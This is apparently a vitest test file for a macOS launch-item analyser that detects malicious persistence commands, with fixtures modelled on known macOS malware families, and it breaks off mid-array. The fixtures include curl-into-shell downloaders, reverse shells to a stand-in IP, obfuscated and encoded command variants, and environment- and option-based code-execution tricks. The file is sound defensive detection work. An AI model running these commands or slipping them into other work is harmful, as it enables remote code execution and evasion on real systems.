import { describe, expect, test } from 'vitest';
import { type RunnableItem, type RunReason, whatRuns } from '../../../src/base/what-runs/index.js';
import { fc } from '../../helpers/property.js';

const agent = '/Users/alice/Library/LaunchAgents/x.plist';
const daemon = '/Library/LaunchDaemons/x.plist';

interface Expected {
  /** What does the work in the end. */
  readonly path?: string;
  /** Further paths on the way, among others. */
  readonly paths?: readonly string[];
  readonly inline?: RegExp;
  readonly reasons?: readonly RunReason[];
}

const oneLiner: RunReason = 'interpreter-one-liner';

/** Shapes of launch items as public reports describe them; hosts and names are made up. */
const malware: readonly [string, RunnableItem, Expected][] = [
  [
    'Shlayer: a script in a hidden folder',
    { args: ['/bin/bash', '-c', '/Users/alice/.tmp_f/install.sh'] },
    { path: '/Users/alice/.tmp_f/install.sh', inline: /install/, reasons: [oneLiner, 'hidden-program'] },
  ],
  [
    'Shlayer: openssl decodes a script',
    { args: ['sh', '-c', 'openssl enc -aes-256-cbc -d -A -base64 -k key -in /tmp/a | sh'] },
    { paths: ['/bin/sh', '/usr/bin/openssl'], reasons: [oneLiner, 'encoded-command'] },
  ],
  [
    'Bundlore: python reads from the network',
    { args: ['python', '-c', "import urllib2;exec(urllib2.urlopen('http://198.51.100.7/s').read())"] },
    { inline: /urlopen/, reasons: [oneLiner, 'network-download'] },
  ],
  [
    'Bundlore: curl into bash',
    { args: ['/bin/sh', '-c', 'curl -fsL https://example.test/i | bash'] },
    { paths: ['/usr/bin/curl', '/bin/bash'], reasons: [oneLiner, 'network-download', 'remote-script'] },
  ],
  [
    'Bundlore: a substitution in bash -c',
    { args: ['bash', '-c', 'bash -c "$(curl -fsSL https://example.test/i)"'] },
    { paths: ['/bin/bash', '/usr/bin/curl'], reasons: [oneLiner, 'network-download', 'remote-script'] },
  ],
  [
    'Silver Sparrow: a JSON of commands by PlistBuddy',
    {
      args: [
        '/bin/sh',
        '-c',
        '"$HOME/Library/Application Support/verx_updater/verx.sh" 1 && curl -s https://example.test/v.json',
      ],
    },
    {
      paths: ['/Users/alice/Library/Application Support/verx_updater/verx.sh', '/usr/bin/curl'],
      reasons: [oneLiner, 'network-download'],
    },
  ],
  [
    'Silver Sparrow: -c behind other options',
    { args: ['/bin/bash', '-e', '-u', '-c', '/tmp/agent.sh'] },
    { path: '/private/tmp/agent.sh', reasons: [oneLiner, 'program-in-tmp'] },
  ],
  [
    'XCSSET: osascript of a hidden applet',
    { args: ['/usr/bin/osascript', '/Users/alice/Library/Caches/GameKit/.report/main.scpt'] },
    { path: '/Users/alice/Library/Caches/GameKit/.report/main.scpt', reasons: ['hidden-program'] },
  ],
  [
    'XCSSET: a do shell script in osascript -e',
    { args: ['osascript', '-e', 'do shell script "curl -sk https://example.test/a -o /tmp/.b; /tmp/.b"'] },
    {
      paths: ['/usr/bin/osascript', '/private/tmp/.b'],
      reasons: [oneLiner, 'network-download', 'program-in-tmp', 'hidden-program'],
    },
  ],
  [
    'XCSSET: through open',
    { args: ['/usr/bin/open', '-g', '-a', '/Users/alice/Library/.x/Notes.app'] },
    { path: '/Users/alice/Library/.x/Notes.app', reasons: ['wrapped-program', 'hidden-program'] },
  ],
  [
    'AMOS: a hidden helper started by a shell',
    { args: ['/bin/bash', '/Users/alice/.agent'] },
    { path: '/Users/alice/.agent', reasons: ['hidden-program'] },
  ],
  [
    'AMOS: a loop around a helper',
    { args: ['sh', '-c', 'while true; do sudo -u alice /Users/alice/.helper; sleep 1; done'] },
    {
      paths: ['/usr/bin/sudo', '/Users/alice/.helper', '/bin/sleep'],
      reasons: [oneLiner, 'wrapped-program', 'hidden-program'],
    },
  ],
  [
    'AMOS: JavaScript for Automation',
    {
      args: [
        '/usr/bin/osascript',
        '-l',
        'JavaScript',
        '-e',
        "ObjC.import('Foundation'); $.NSURL.URLWithString('https://example.test')",
      ],
    },
    { inline: /ObjC/, reasons: [oneLiner, 'network-download'] },
  ],
  [
    'a JavaScript file of osascript',
    { args: ['osascript', '-l', 'JavaScript', '/tmp/a.js', 'x'] },
    { path: '/private/tmp/a.js', reasons: ['program-in-tmp'] },
  ],
  [
    'Lazarus AppleJeus: a hidden daemon with an option',
    { args: ['/Library/CelasTradePro/.CTPUpdater', 'CheckUpdate'] },
    { path: '/Library/CelasTradePro/.CTPUpdater', reasons: ['hidden-program'] },
  ],
  [
    'Lazarus: a library folder of another name',
    { program: '/Users/alice/Library/../.fseventsd', args: ['fseventsd', '-h'] },
    { path: '/Users/alice/.fseventsd', reasons: ['hidden-program'] },
  ],
  [
    'Lazarus: python with a file',
    { args: ['/usr/bin/python3.9', '-u', '-B', '/Users/alice/Library/Preferences/.pip/run.py'] },
    { path: '/Users/alice/Library/Preferences/.pip/run.py', reasons: ['hidden-program'] },
  ],
  [
    'OceanLotus: a hidden name below Application Support',
    { program: '/Users/alice/Library/User Photos/.mount_devfs', args: ['.mount_devfs'] },
    { path: '/Users/alice/Library/User Photos/.mount_devfs', reasons: ['hidden-program'] },
  ],
  [
    'OceanLotus: perl -e',
    { args: ['perl', '-we', 'use IO::Socket; system("/Library/.k/d")'] },
    { paths: ['/Library/.k/d'], inline: /Socket/, reasons: [oneLiner, 'hidden-program'] },
  ],
  [
    'OceanLotus: perl modules before the text',
    { args: ['perl', '-MIO::Socket', '-e', 'exec "/tmp/s"'] },
    { paths: ['IO::Socket', '/private/tmp/s'], reasons: [oneLiner, 'program-in-tmp'] },
  ],
  [
    'WizardUpdate: sh in a folder of the system',
    { args: ['/bin/sh', '/Library/Application Support/Helper/helper_agent.sh', '&'] },
    { path: '/Library/Application Support/Helper/helper_agent.sh' },
  ],
  [
    'WizardUpdate: nohup and a background shell',
    { args: ['nohup', '/bin/bash', '-c', 'eval "$(echo aGk= | base64 --decode)" &'] },
    {
      paths: ['/usr/bin/nohup', '/bin/bash', '/usr/bin/base64'],
      reasons: ['wrapped-program', oneLiner, 'encoded-command'],
    },
  ],
  [
    'CoinMiner: caffeinate keeps it awake',
    { args: ['/usr/bin/caffeinate', '-i', '-t', '86400', '/private/var/tmp/xmrig', '-o', 'pool.test'] },
    { path: '/private/var/tmp/xmrig', reasons: ['wrapped-program', 'program-in-tmp'] },
  ],
  [
    'CoinMiner: nice, time and a relative miner',
    { args: ['/usr/bin/nice', '-n', '19', 'time', '-l', './mshelper'], workingDirectory: '/tmp/mshelper' },
    {
      path: '/private/tmp/mshelper/mshelper',
      reasons: ['wrapped-program', 'relative-program', 'program-in-tmp'],
    },
  ],
  [
    'CoinMiner: a joined niceness',
    { args: ['nice', '-10', '/Users/Shared/pplauncher'] },
    { path: '/Users/Shared/pplauncher', reasons: ['wrapped-program', 'program-in-tmp'] },
  ],
  [
    'OSAMiner: osascript run-only',
    { args: ['/usr/bin/osascript', '-s', 's', '/Users/alice/Library/11.png'] },
    { path: '/Users/alice/Library/11.png' },
  ],
  [
    'Keydnap: icloudsyncd',
    { program: '/Users/alice/Library/Application Support/com.apple.iCloud.sync.daemon/icloudsyncd' },
    { path: '/Users/alice/Library/Application Support/com.apple.iCloud.sync.daemon/icloudsyncd' },
  ],
  [
    'Eleanor: php behind a hidden folder',
    { args: ['/usr/bin/php', '-S', 'localhost:9991', '-f', '/Users/alice/Library/.dropbox/index.php'] },
    { path: '/Users/alice/Library/.dropbox/index.php', reasons: ['hidden-program'] },
  ],
  [
    'Eleanor: tor by a shell',
    { args: ['sh', '-c', 'cd ~/Library/.dropbox && ./conn -f torrc'] },
    { path: '/Users/alice/Library/.dropbox/conn', reasons: [oneLiner, 'relative-program', 'hidden-program'] },
  ],
  [
    'Dok: a proxy by socat',
    { args: ['/usr/local/bin/socat', 'tcp4-LISTEN:5555', 'SOCKS4A:127.0.0.1'] },
    { path: '/usr/local/bin/socat' },
  ],
  [
    'EvilQuest: sudo around a hidden copy',
    { args: ['sudo', '/Library/AppQuest/.com.apple.questd', '--silent'] },
    { path: '/Library/AppQuest/.com.apple.questd', reasons: ['wrapped-program', 'hidden-program'] },
  ],
  [
    'EvilQuest: sudo with a user and a variable',
    { args: ['/usr/bin/sudo', '-u', 'root', 'X=1', '/tmp/q'] },
    { path: '/private/tmp/q', reasons: ['wrapped-program', 'program-in-tmp'] },
  ],
  [
    'Genieo: a program in an application',
    { program: '/Applications/Genieo.app/Contents/MacOS/Genieo' },
    { path: '/Applications/Genieo.app/Contents/MacOS/Genieo' },
  ],
  [
    'Adload: python -c after joined options',
    { args: ['/usr/bin/python', '-Ec', 'import os; os.system("/tmp/.m/x")'] },
    { paths: ['/private/tmp/.m/x'], reasons: [oneLiner, 'program-in-tmp', 'hidden-program'] },
  ],
  [
    'Adload: code joined to its option',
    { args: ['python3', '-cimport os'] },
    { inline: /^import os$/, reasons: [oneLiner] },
  ],
  [
    'CrescentCore: a folder of everybody through a firmlink',
    { program: '/System/Volumes/Data/private/tmp/x' },
    { path: '/private/tmp/x', reasons: ['program-in-tmp'] },
  ],
  [
    'Tarmac: through the name of the startup disk',
    { program: '/Volumes/Macintosh HD/tmp/x' },
    { path: '/private/tmp/x', reasons: ['program-in-tmp'] },
  ],
  [
    'Pirrit: doubled slashes and dots',
    { program: '//Users//alice/Library/./..//.d///x' },
    { path: '/Users/alice/.d/x', reasons: ['hidden-program'] },
  ],
  [
    'Pirrit: a folder of three dots',
    { program: '/Users/alice/.../x' },
    { path: '/Users/alice/.../x', reasons: ['hidden-program'] },
  ],
  [
    'Calisto: a login item of root',
    { program: '/private/var/root/../tmp/.c', itemPath: daemon },
    { path: '/private/var/tmp/.c', reasons: ['program-in-tmp', 'hidden-program'] },
  ],
  [
    'Proton: a relative program with a working folder',
    { program: '.proton', workingDirectory: '~/Library' },
    { path: '/Users/alice/Library/.proton', reasons: ['relative-program', 'hidden-program'] },
  ],
  [
    'MacSpy: a hidden folder as PATH',
    { args: ['updated'], environment: new Map([['PATH', '/Users/alice/Library/.DS_Stores:/usr/bin:/bin']]) },
    { path: '/Users/alice/Library/.DS_Stores/updated', reasons: ['hidden-program'] },
  ],
  [
    'a tool that a folder before it may shadow',
    { args: ['curl', '-V'], environment: new Map([['PATH', '/tmp/bin:/usr/bin']]) },
    { paths: ['/private/tmp/bin/curl', '/usr/bin/curl'], reasons: ['program-in-tmp', 'network-download'] },
  ],
  [
    'env with a PATH',
    { args: ['/usr/bin/env', '-i', 'PATH=/tmp/.p', 'tool'] },
    { path: '/private/tmp/.p/tool', reasons: ['wrapped-program', 'program-in-tmp', 'hidden-program'] },
  ],
  [
    'env -S with a whole command line',
    { args: ['env', '-S', 'bash -c "/tmp/a b"'] },
    { path: '/private/tmp/a', reasons: ['wrapped-program', oneLiner, 'program-in-tmp'] },
  ],
  [
    'env -S joined, with variables',
    { args: ['/usr/bin/env', '-SA=1 python3 /tmp/p.py'] },
    { path: '/private/tmp/p.py', reasons: ['wrapped-program', 'program-in-tmp'] },
  ],
  [
    'env with unset and a dash',
    { args: ['env', '-', 'B=2', 'env', '-u', 'HOME', 'zsh', '/Users/Shared/z'] },
    { path: '/Users/Shared/z', reasons: ['wrapped-program', 'program-in-tmp'] },
  ],
  [
    'arch for another processor',
    { args: ['/usr/bin/arch', '-x86_64', '/bin/zsh', '-lc', '~/.x/run'] },
    { path: '/Users/alice/.x/run', reasons: ['wrapped-program', oneLiner, 'hidden-program'] },
  ],
  [
    'arch with a name',
    { args: ['arch', '-arch', 'arm64', '/tmp/x'] },
    { path: '/private/tmp/x', reasons: ['wrapped-program', 'program-in-tmp'] },
  ],
  [
    'script with a typescript',
    { args: ['script', '-q', '/dev/null', '/tmp/x'] },
    { path: '/private/tmp/x', reasons: ['wrapped-program', 'program-in-tmp'] },
  ],
  [
    'xargs and a file',
    { args: ['sh', '-c', 'echo /tmp/y | xargs -n 1 /bin/zsh'] },
    {
      paths: ['/usr/bin/xargs', '/bin/zsh', '/private/tmp/y'],
      reasons: [oneLiner, 'wrapped-program', 'program-in-tmp'],
    },
  ],
  [
    'launchctl asuser',
    { args: ['/bin/launchctl', 'asuser', '501', '/tmp/x'] },
    { path: '/private/tmp/x', reasons: ['wrapped-program', 'program-in-tmp'] },
  ],
  [
    'launchctl submit',
    { args: ['launchctl', 'submit', '-l', 'l', '--', '/tmp/x', 'a'] },
    { path: '/private/tmp/x', reasons: ['program-in-tmp'] },
  ],
  [
    'stdbuf, setsid and timeout',
    { args: ['stdbuf', '-o', '0', 'setsid', '-w', 'timeout', '-s', 'KILL', '9', '/tmp/x'] },
    { path: '/private/tmp/x', reasons: ['wrapped-program', 'program-in-tmp'] },
  ],
  [
    'sandbox-exec around a shell',
    { args: ['sandbox-exec', '-p', '(version 1)', '/bin/sh', '/tmp/x'] },
    { path: '/private/tmp/x', reasons: ['wrapped-program', 'program-in-tmp'] },
  ],
  [
    'busybox',
    { args: ['/opt/busybox', 'sh', '-c', '/tmp/x'] },
    { path: '/private/tmp/x', reasons: ['wrapped-program', oneLiner, 'program-in-tmp'] },
  ],
  [
    'java with an archive',
    { args: ['/usr/bin/java', '-Xmx64m', '-cp', '/a.jar', '-jar', '/Users/Shared/.j/a.jar'] },
    { paths: ['/Users/Shared/.j/a.jar'], reasons: ['program-in-tmp', 'hidden-program'] },
  ],
  [
    'java with a class path of many',
    {
      args: [
        'java',
        '-javaagent:/tmp/agent.jar=x',
        '-cp',
        '/opt/a.jar:/Users/Shared/b.jar',
        'com.example.Main',
      ],
    },
    {
      paths: ['/private/tmp/agent.jar', '/opt/a.jar', '/Users/Shared/b.jar'],
      reasons: ['program-in-tmp'],
    },
  ],
  [
    'node with a text',
    { args: ['/usr/local/bin/node', '--no-warnings', '--eval=require("child_process").execSync("/tmp/x")'] },
    { paths: ['/private/tmp/x'], reasons: [oneLiner, 'program-in-tmp'] },
  ],
  [
    'node with a required file',
    { args: ['node', '-r', '/tmp/hook.js', '/opt/app.js'] },
    { paths: ['/private/tmp/hook.js', '/opt/app.js'], reasons: ['program-in-tmp'] },
  ],
  [
    'ruby -e',
    { args: ['ruby', '-rsocket', '-e', 'exec "/tmp/r"'] },
    { paths: ['socket', '/private/tmp/r'], reasons: [oneLiner, 'program-in-tmp'] },
  ],
  [
    'php -r',
    { args: ['php', '-d', 'x=1', '-r', 'shell_exec("curl http://example.test | sh");'] },
    { paths: ['/usr/bin/curl', '/bin/sh'], reasons: [oneLiner, 'network-download', 'remote-script'] },
  ],
  [
    'tclsh with a file',
    { args: ['tclsh8.5', '/tmp/t.tcl'] },
    { path: '/private/tmp/t.tcl', reasons: ['program-in-tmp'] },
  ],
  [
    'swift with a file',
    { args: ['/usr/bin/swift', '/tmp/s.swift'] },
    { path: '/private/tmp/s.swift', reasons: ['program-in-tmp'] },
  ],
  [
    'awk with a text',
    { args: ['awk', 'BEGIN { system("/tmp/x") }'] },
    { paths: ['/private/tmp/x'], reasons: [oneLiner, 'program-in-tmp'] },
  ],
  [
    'python -m',
    { args: ['python3', '-m', 'http.server', '8000'] },
    { paths: ['/usr/bin/python3', 'http.server'] },
  ],
  [
    'a shell that reads its standard input',
    { program: '/bin/sh', standardIn: '/tmp/in' },
    { path: '/private/tmp/in', reasons: ['program-in-tmp'] },
  ],
  [
    'thousands of blanks before the command',
    { args: ['sh', '-c', `${' '.repeat(20_000)}curl http://example.test/a | sh`] },
    { inline: /^curl/, reasons: [oneLiner, 'network-download', 'remote-script'] },
  ],
  [
    'seventy kilobytes of comments before the command',
    { args: ['sh', '-c', `${'# see the manual\n'.repeat(4_200)}curl http://example.test/a | sh`] },
    { inline: /^curl/, reasons: [oneLiner, 'network-download', 'remote-script'] },
  ],
  [
    'seventy kilobytes of a harmless argument before the command',
    { args: ['sh', '-c', `: ${'x'.repeat(70_000)}\ncurl http://example.test/a | sh`] },
    { reasons: [oneLiner, 'network-download', 'remote-script', 'script-cut'] },
  ],
  [
    'more commands than are read',
    { args: ['sh', '-c', `${':;'.repeat(2_000)}/tmp/evil`] },
    { reasons: [oneLiner, 'script-cut'] },
  ],
  [
    'more words than are read',
    { args: ['sh', '-c', `env ${'A=1 '.repeat(2_000)}/tmp/evil`] },
    { reasons: [oneLiner, 'script-cut'] },
  ],
  [
    'three hundred commands before the one that counts',
    {
      args: [
        'sh',
        '-c',
        `${Array.from({ length: 300 }, (_, index) => `echo ${index}`).join(';')}; "/tmp/ev"il`,
      ],
    },
    { paths: ['/private/tmp/evil'], reasons: [oneLiner, 'program-in-tmp'] },
  ],
  [
    'thousands of segments',
    { program: `/${'./'.repeat(5_000)}tmp/x` },
    { path: '/private/tmp/x', reasons: ['program-in-tmp'] },
  ],
  [
    'a variable that holds the folder',
    { args: ['sh', '-c', `D=/tmp/.v; "$D/run" & "$\{D}/again"`] },
    {
      paths: ['/private/tmp/.v/run', '/private/tmp/.v/again'],
      reasons: [oneLiner, 'program-in-tmp', 'hidden-program'],
    },
  ],
  [
    'quotes inside of a name',
    { args: ['zsh', '-c', '/t\'m\'p/"x"'] },
    { path: '/private/tmp/x', reasons: [oneLiner, 'program-in-tmp'] },
  ],
  [
    'exec and a redirection',
    { args: ['bash', '-c', 'exec -a kernel /tmp/x >/dev/null 2>&1'] },
    { path: '/private/tmp/x', reasons: [oneLiner, 'program-in-tmp'] },
  ],
  [
    'a program of a bundle',
    {
      bundleProgram: 'Contents/MacOS/x',
      itemPath: '/Applications/A.app/Contents/Library/LaunchAgents/a.plist',
    },
    { path: '/Applications/A.app/Contents/MacOS/x' },
  ],
  [
    'a root folder',
    { program: '/bin/x', rootDirectory: '/tmp/r' },
    { paths: ['/private/tmp/r/bin/x'], reasons: ['program-in-tmp'] },
  ],
  [
    'Program and other arguments: the first word is a name only',
    { program: '/bin/sh', args: ['/usr/libexec/securityd', '-c', '/tmp/x'] },
    { path: '/private/tmp/x', reasons: [oneLiner, 'program-in-tmp'] },
  ],
  [
    'su -c',
    { args: ['/usr/bin/su', '-', 'alice', '-c', '/tmp/x'] },
    { path: '/private/tmp/x', reasons: ['wrapped-program', oneLiner, 'program-in-tmp'] },
  ],
];

describe('what a launch item runs', () => {
  test.each(malware)('%s', (_, item, expected) => {
    const runs = whatRuns({ itemPath: agent, ...item });
    if (expected.path !== undefined) expect(runs.path).toBe(expected.path);
    expect(runs.paths).toEqual(expect.arrayContaining([...(expected.paths ?? [])]));
    if (expected.inline !== undefined) expect(runs.inline).toMatch(expected.inline);
    expect([...runs.reasons].sort()).toEqual([...(expected.reasons ?? [])].sort());
  });

  test('are at least 60', () => {
    expect(malware.length).toBeGreaterThanOrEqual(60);
  });

  test.each<[string, RunnableItem]>([
    ['an updater with options', { args: ['/Applications/X.app/Contents/MacOS/updater', '--check'] }],
    ['a script that is a file', { program: '/bin/sh', args: ['sh', '/usr/local/bin/x.sh', '-c'] }],
    ['an option of the script', { args: ['/usr/bin/python3', '/opt/x.py', '-c', 'y'] }],
    ['a tool of the system', { args: ['bash', '/etc/x.sh'] }],
    ['nothing', {}],
    ['empty texts', { program: '', args: ['', ''] }],
  ])('nothing to say about %s', (_, item) => {
    expect(whatRuns({ itemPath: agent, ...item }).reasons).toEqual([]);
  });

  test('any words: bounded, and never an exception', () => {
    const word = fc.oneof(
      fc.constantFrom(...malware.flatMap(([, item]) => [...(item.args ?? [])])),
      fc.constantFrom(
        '$(',
        '`',
        '"',
        "'",
        '\\',
        '|',
        '(',
        ')',
        '$',
        '${',
        '~',
        '<(',
        '>&',
        '-',
        '--',
        '\0',
        '\ud800',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), (args) => {
        const joined = ['sh', '-c', args.join(' ')];
        for (const one of [args, joined]) {
          const runs = whatRuns({ args: one, itemPath: agent });
          expect(runs.paths.length).toBeLessThanOrEqual(32);
          expect(runs.inline?.length ?? 0).toBeLessThanOrEqual(4_096);
          for (const path of runs.paths) expect(path.length).toBeLessThanOrEqual(8_192);
        }
      }),
      { numRuns: 1_000 },
    );
  });

  test.each<[string, string[]]>([
    ['wrappers in wrappers', Array<string>(5_000).fill('nohup')],
    ['shells in shells', ['sh', '-c', '$('.repeat(20_000)]],
    ['backticks', ['sh', '-c', '`a `'.repeat(20_000)]],
    ['quotes', ['sh', '-c', '"$(x "'.repeat(10_000)]],
    ['a megabyte of blanks', ['sh', '-c', ' '.repeat(1e6)]],
    ['a megabyte of one word', ['python3', '-c', `system("${'a'.repeat(1e6)}`]],
    ['curl without an end', ['sh', '-c', 'curl '.repeat(2e5)]],
  ])('no few bytes cost much: %s', (_, args) => {
    const started = process.cpuUsage().user;
    whatRuns({ args, itemPath: agent });
    // The worst of them takes some tens of milliseconds; a bound that is missing takes minutes.
    expect(process.cpuUsage().user - started).toBeLessThan(5e6);
  });
});

const env = (name: string, value: string) => ({
  args: ['/usr/local/bin/tool'],
  environment: new Map([[name, value]]),
});
const carried: readonly RunReason[] = [oneLiner, 'wrapped-program', 'program-in-tmp'];
const fetched: readonly RunReason[] = [oneLiner, 'network-download', 'remote-script'];
const sh = (text: string) => ({ args: ['sh', '-c', text] });

/** Ways of making something run that is not the program of the list. */
const byOtherMeans: readonly [string, RunnableItem, Expected][] = [
  ...(
    [
      ['BASH_ENV', '/tmp/x'],
      ['ENV', '/tmp/x'],
      ['ZDOTDIR', '/tmp/x'],
      ['PYTHONSTARTUP', '/tmp/x'],
      ['RUBYOPT', '-r/tmp/x'],
      ['NODE_OPTIONS', '--max-old-space-size=99 --require /tmp/x'],
      ['NODE_OPTIONS', '--import=/tmp/x'],
      ['JAVA_TOOL_OPTIONS', '-javaagent:/tmp/x'],
      ['LUA_INIT', '@/tmp/x'],
      ['GIT_SSH_COMMAND', '/tmp/x'],
    ] as const
  ).map(([name, value]): [string, RunnableItem, Expected] => [
    `${name}=${value}`,
    env(name, value),
    { paths: ['/private/tmp/x'], reasons: ['environment-runs-code', 'program-in-tmp'] },
  ]),
  ...(['PYTHONPATH', 'PERL5LIB', 'RUBYLIB', 'NODE_PATH'] as const).map(
    (name): [string, RunnableItem, Expected] => [
      name,
      env(name, '/tmp/x:/usr/lib/x'),
      { paths: ['/private/tmp/x'], reasons: ['environment-adds-code', 'program-in-tmp'] },
    ],
  ),
  ['PERL5OPT', env('PERL5OPT', '-Mevil'), { reasons: ['environment-runs-code'] }],
  [
    'a substitution in BASH_ENV',
    env('BASH_ENV', '$(curl http://example.test/x | sh)'),
    { reasons: ['environment-runs-code', 'network-download', 'remote-script'] },
  ],
  [
    'DYLD_INSERT_LIBRARIES by env',
    { args: ['env', 'DYLD_INSERT_LIBRARIES=/tmp/x', '/opt/tool'] },
    { paths: ['/private/tmp/x'], reasons: ['wrapped-program', 'dyld-environment', 'program-in-tmp'] },
  ],
  [
    'BASH_ENV exported by a shell',
    sh('export BASH_ENV=/tmp/x; bash /opt/x.sh'),
    { paths: ['/private/tmp/x'], reasons: [oneLiner, 'environment-runs-code', 'program-in-tmp'] },
  ],
  ...(
    [
      ['ssh', '-o', 'ProxyCommand=/tmp/x', 'host'],
      ['ssh', '-oProxyCommand=/tmp/x', 'host'],
      ['ssh', '-o', 'proxycommand /tmp/x', 'host'],
      ['ssh', 'host', '-o', 'PermitLocalCommand=yes', '-o', 'LocalCommand=/tmp/x'],
      ['scp', '-S', '/tmp/x', 'a', 'b:'],
      ['rsync', '-a', '-e', '/tmp/x', 'a', 'b:'],
      ['git', '-c', 'core.fsmonitor=/tmp/x', 'status'],
      ['git', '-c', 'core.sshCommand=/tmp/x', 'fetch'],
      ['git', '-c', 'alias.x=!/tmp/x', 'x'],
      ['git', 'clone', 'ext::/tmp/x'],
      ['git', 'clone', '--upload-pack=/tmp/x', 'a'],
      ['vim', '-c', ':!/tmp/x'],
      ['vim', '+!/tmp/x'],
      ['nvim', '--cmd', 'silent !/tmp/x'],
      ['sqlite3', ':memory:', '.shell /tmp/x'],
      ['sqlite3', '-cmd', '.system /tmp/x', ':memory:'],
      ['sqlite3', ':memory:', '.import |/tmp/x t'],
      ['lldb', '-o', 'platform shell /tmp/x', '-o', 'quit'],
      ['lldb', '--batch', '--one-line', 'shell /tmp/x'],
      ['gdb', '-batch', '-ex', 'shell /tmp/x'],
      ['tar', 'cf', '/dev/null', '--checkpoint=1', '--checkpoint-action=exec=/tmp/x', 'a'],
      ['tar', '--to-command=/tmp/x', '-xf', 'a'],
      ['gtar', '-I', '/tmp/x', '-xf', 'a'],
      ['zip', 'a', 'b', '-T', '-TT', '/tmp/x'],
      ['dtrace', '-c', '/tmp/x'],
      ['emacs', '--batch', '--eval', '(shell-command "/tmp/x")'],
      ['make', '--eval', 'a:;/tmp/x'],
    ] as const
  ).map((args): [string, RunnableItem, Expected] => [
    args.join(' '),
    { args },
    { paths: ['/private/tmp/x'], reasons: carried },
  ]),
  ...(
    [
      ['installer', '-pkg', '/tmp/x', '-target', '/'],
      ['vim', '-S', '/tmp/x'],
      ['lldb', '-s', '/tmp/x'],
      ['sqlite3', '-init', '/tmp/x'],
      ['emacs', '--script', '/tmp/x'],
      ['ssh', '-F', '/tmp/x', 'host'],
    ] as const
  ).map((args): [string, RunnableItem, Expected] => [
    args.join(' '),
    { args },
    { path: '/private/tmp/x', reasons: ['wrapped-program', 'program-in-tmp'] },
  ]),
  [
    'make -f',
    { args: ['make', '-f', '/tmp/x', 'all'] },
    { path: '/private/tmp/x', reasons: ['program-in-tmp'] },
  ],
  [
    'make in a folder',
    { args: ['make', '-C', '/tmp/x'] },
    { path: '/private/tmp/x/Makefile', reasons: ['program-in-tmp'] },
  ],
  [
    'nc -e',
    { args: ['nc', '-e', '/bin/sh', '198.51.100.7', '4444'] },
    { reasons: [oneLiner, 'wrapped-program', 'remote-shell'] },
  ],
  [
    'socat exec',
    { args: ['socat', 'tcp:198.51.100.7:4444', 'exec:/bin/sh'] },
    { reasons: [oneLiner, 'wrapped-program', 'remote-shell'] },
  ],
  [
    'bash -i and /dev/tcp',
    { args: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'] },
    { reasons: [oneLiner, 'network-download', 'remote-shell'] },
  ],
  [
    'a pipe between a shell and nc',
    sh('mkfifo /opt/f; cat /opt/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /opt/f'),
    { reasons: [oneLiner, 'remote-shell'] },
  ],
  [
    'a socket of python',
    {
      args: [
        'python3',
        '-c',
        'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
      ],
    },
    { reasons: [oneLiner, 'remote-shell'] },
  ],
  ...(
    [
      "c'u'rl http://example.test/a | sh",
      'cu\\rl http://example.test/a | s\\h',
      "$'c\\x75rl' http://example.test/a | sh",
      '"cu"rl http://example.test/a | sh',
      'cu$@rl http://example.test/a | sh',
      'cu$' + '{z}rl http://example.test/a | sh',
      'a=cu;b=rl;$a$b http://example.test/a | sh',
      'curl$' + '{IFS}http://example.test/a|sh',
      '{curl,-s,http://example.test/a} | sh',
      'echo "curl http://example.test/a | sh" | sh',
      "printf '\\x63url http://example.test/a | sh' | sudo sh",
      "sh <<< 'curl http://example.test/a | sh'",
    ] as const
  ).map((text): [string, RunnableItem, Expected] => [
    text,
    sh(text),
    { reasons: text.includes('sudo') ? [...fetched, 'wrapped-program'] : fetched },
  ]),
  ...(
    [
      "echo 'x' | rev | sh",
      'gunzip -c /opt/a.gz | sh',
      'gzip -dc /opt/a.gz | bash -s',
      'xxd -r -p /opt/a | zsh',
      'openssl enc -a -in /opt/a | sh',
      'tr a-z n-za-m < /opt/a | python3',
      'cat /opt/a | base32 -d | perl',
      'eval "$(rev /opt/a)"',
      'bash -c "$(gunzip -c /opt/a)"',
      '. <(gzcat /opt/a)',
    ] as const
  ).map((text): [string, RunnableItem, Expected] => [
    text,
    sh(text),
    { reasons: [oneLiner, 'encoded-command'] },
  ]),
  [
    'a pattern for a folder',
    sh('/t?p/evil'),
    { path: '/private/tmp/evil', reasons: [oneLiner, 'pattern-program', 'program-in-tmp'] },
  ],
  [
    'a pattern for a script',
    sh('sh /[t]mp/e*'),
    { path: '/private/tmp/e*', reasons: [oneLiner, 'pattern-program', 'program-in-tmp'] },
  ],
  [
    'a pattern for a tool',
    sh('/usr/bin/c?rl http://example.test/a | sh'),
    { paths: ['/usr/bin/curl'], reasons: [...fetched, 'pattern-program'] },
  ],
  ...(['python3', 'perl', 'ruby', 'node', 'osascript', 'php'] as const).map(
    (program): [string, RunnableItem, Expected] => [
      `${program} that reads its standard input`,
      { args: [program], standardIn: '/tmp/in' },
      { path: '/private/tmp/in', reasons: ['program-in-tmp'] },
    ],
  ),
  ...(['sh < /tmp/x', 'cat /tmp/x | bash', 'dd if=/tmp/x | zsh', 'python3 - </tmp/x'] as const).map(
    (text): [string, RunnableItem, Expected] => [
      text,
      sh(text),
      { path: '/private/tmp/x', reasons: [oneLiner, 'program-in-tmp'] },
    ],
  ),
  [
    'python with a dash',
    { args: ['python3', '-'], standardIn: '/tmp/in' },
    { path: '/private/tmp/in', reasons: ['program-in-tmp'] },
  ],
];

describe('what a launch item runs by other means', () => {
  test.each(byOtherMeans)('%s', (_, item, expected) => {
    const runs = whatRuns({ itemPath: agent, ...item });
    if (expected.path !== undefined) expect(runs.path).toBe(expected.path);
    expect(runs.paths).toEqual(expect.arrayContaining([...(expected.paths ?? [])]));
    expect([...runs.reasons].sort()).toEqual([...(expected.reasons ?? [])].sort());
  });

  test.each<[string, RunnableItem, readonly RunReason[]]>([
    ['a tunnel', { args: ['ssh', '-N', '-L', '1:h:2', '-o', 'ExitOnForwardFailure=yes', 'host'] }, []],
    ['a backup', { args: ['rsync', '-a', '/a/', '/b/'] }, []],
    ['an archive', { args: ['tar', '-czf', '/b.tgz', '-C', '/a', '.'] }, []],
    ['a pull', { args: ['git', '-C', '/opt/repo', 'pull', '--ff-only'] }, []],
    ['a database', { args: ['sqlite3', '/opt/a.db', 'VACUUM;'] }, []],
